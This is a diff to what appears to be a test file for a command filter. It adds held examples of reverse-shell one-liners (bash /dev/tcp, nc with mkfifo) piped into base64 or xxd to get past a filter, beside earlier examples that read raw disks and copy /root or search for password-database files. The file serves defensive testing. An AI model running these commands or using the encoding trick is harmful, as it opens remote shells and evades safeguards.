@@ -18,7 +18,8 @@ are variants written for the tests, not the ones measured:
   false positive of 57): a disk's bytes shown (``strings /dev/sdb``, ``grep -a pass /dev/nvme0n1p2``): every
   file on it read past the permissions; another account's home directory itself copied, linked or searched
   (``cp -r /root ./loot``, ``ln -s /root courses``), not only a file under it. Listing it (``ls /root``)
-  and checking it (``stat``) stay allowed.
+  and checking it (``stat``) stay allowed; a remote shell piped into an encoder (``echo 'bash -i >&
+  /dev/tcp/IP/4444 0>&1' | base64``): the payload made to pass a filter.
 """
 
 from __future__ import annotations
@@ -69,6 +70,11 @@ HELD = {
         "rsync -a /home/alice/ ./a/",
         "find /home/alice -name '*.kdbx'",
     ],
+    "a remote shell encoded": [
+        "echo 'bash -i >& /dev/tcp/10.10.14.7/4444 0>&1' | base64",
+        "printf 'sh -i >& /dev/udp/10.0.0.1/9001 0>&1' | base64 -w0",
+        "echo 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f' | xxd -p",
+    ],
 }
 
 ALLOWED = [
@@ -92,4 +98,6 @@ ALLOWED = [
     "ls -ld /home/alice",
     "stat /root",
     "cp -r /home/dev/templates ./templates",
+    "echo -n 'user:token' | base64",
+    "echo 'nc -z localhost 5432' | base64",
 ]
